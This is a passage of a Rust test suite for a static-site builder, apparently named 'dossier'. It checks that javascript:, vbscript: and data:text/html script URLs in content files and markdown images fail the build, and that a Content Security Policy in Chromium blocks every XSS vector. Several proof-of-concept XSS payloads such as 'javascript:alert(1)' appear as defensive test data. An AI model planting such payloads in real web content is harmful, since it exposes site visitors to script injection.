            "url: https://wire.example.org/2020/01/02/things",
            "url: javascript:alert(1)",
            "url javascript",
        ),
        (
            "content/articles/2020-01-02-wire-report.md",
            "  - https://web.archive.org/web/2020/https://wire.example.org/2020/01/02/things",
            "  - JaVaScRiPt:alert(1)",
            "archived javascript",
        ),
        (
            "content/outlets/paper.yaml",
            "name: Example Paper",
            "name: Example Paper\nhomepage: javascript:alert(1)",
            "homepage javascript",
        ),
        (
            "content/outlets/wire.yaml",
            "      - url: https://example.org/founding",
            "      - url: \"data:text/html,<script>alert(1)</script>\"",
            "sources data",
        ),
        (
            "content/timeline.yaml",
            "      - url: https://wire.example.org/talks",
            "      - url: vbscript:msgbox(1)",
            "sources vbscript",
        ),
    ] {
        let site = TestSite::from_fixture("basic");
        let text = site.read(file);
        assert!(text.contains(from), "{file} has `{from}`");
        site.write(file, &text.replace(from, to));
        let run = site.build(&[]);
        assert_eq!(run.code, 1, "{key} in {file}: {}", run.stderr);
        let scheme = key.split_once(' ').map_or("javascript", |(_, s)| s);
        let message = format!(
            "uses the `{scheme}:` scheme; only absolute `http://` or `https://` URLs are accepted"
        );
        let line = run.stderr.lines().find(|l| l.contains(&message));
        assert!(
            line.is_some_and(|l| l.starts_with(&format!("error: {file}:"))),
            "{key}: expected `{message}` at {file}: {}",
            run.stderr
        );
        assert!(!site.public().exists(), "{key}: no output");
        println!("{key}: {}", line.unwrap_or(""));
    }
}

#[test]
fn markdown_images_with_script_urls_fail_the_build() {
    let site = TestSite::from_fixture("basic");
    let page = "content/pages/about.md";
    let about = site.read(page);
    site.write(page, &format!("{about}\n\n![x](javascript:alert(1))\n"));
    let run = site.build(&[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(
        run.stderr.contains("image `javascript:alert(1)` is not a file of the dossier"),
        "{}",
        run.stderr
    );
}

/// Runs `tests/browser/csp.mjs` with `args`; its output and exit code.
fn csp_mjs(dir: &Path, args: &[&str]) -> (Option<i32>, String) {
    let out = Command::new("node").arg(dir.join("csp.mjs")).args(args).output().expect("run node");
    let text =
        format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    println!("{text}");
    (out.status.code(), text)
}

/// The policy in Chromium: every page of the repository's dossier (built under a subpath)
/// loads with no violation over HTTP and from disk, the search works, and `dossier serve`'s
/// live reload and overlay work under it; a page with an inline style is caught; and the XSS
/// site runs none of its vectors (no violation, no `alert`), its search results showing them
/// as text.
#[test]
fn pages_search_and_serve_work_under_the_policy_in_chromium() {
    let Some(dir) = browser_scripts() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("public");
    let root = repo_root();
    dossier(
        &[
            "build",
            "--root",
            root.to_str().unwrap(),
            "--output",
            out.to_str().unwrap(),
            "--base-url",
            "https://example.org/idlib-dossier/",
            "--quiet",
        ],
        &root,
    )
    .ok();
    let (code, text) = csp_mjs(&dir, &[out.to_str().unwrap()]);
    assert_eq!(code, Some(0), "{text}");
    assert!(text.contains("csp: 0 violations or failures"), "{text}");
    assert!(text.contains("policy in force: an injected inline script was blocked"), "{text}");
    assert!(text.contains("search for “ceasefire”: ") && !text.contains(": 0 results"), "{text}");

    // A violation is reported: an inline style attribute on one page.
    let about = out.join("methodology/index.html");
    let html = std::fs::read_to_string(&about).unwrap();
    std::fs::write(&about, html.replacen("<main ", "<main style=\"color: red\" ", 1)).unwrap();
    let (code, text) = csp_mjs(&dir, &[out.to_str().unwrap()]);
    assert_eq!(code, Some(1), "{text}");
    assert!(
        text.contains("FAIL methodology/index.html over HTTP: ") && text.contains("style-src"),
        "{text}"
    );

    // The hostile site: nothing runs, nothing is blocked, and its search shows the payloads as
    // text (the excerpt and title of the XSS article).
    let (xss, _) = xss_site();
    xss.build(&["-q", "--base-url", "https://example.org/idlib-dossier/"]).ok();
    let (code, text) = csp_mjs(&dir, &[xss.public().to_str().unwrap(), "xssarticletitle"]);
    assert_eq!(code, Some(0), "{text}");
    assert!(
        text.contains("search for “xssarticletitle”: ") && !text.contains(": 0 results"),
        "{text}"
    );
    assert!(
        text.contains("<script>alert('XSS')</script>"),
        "results show the payload as text: {text}"
    );

    let site = TestSite::from_dir(&fixture("basic"));
    let (code, text) =
        csp_mjs(&dir, &["--serve", env!("CARGO_BIN_EXE_dossier"), site.root.to_str().unwrap()]);
    assert_eq!(code, Some(0), "{text}");
    assert!(text.contains("error overlay through dossier serve: shown, 0 violations"), "{text}");
}
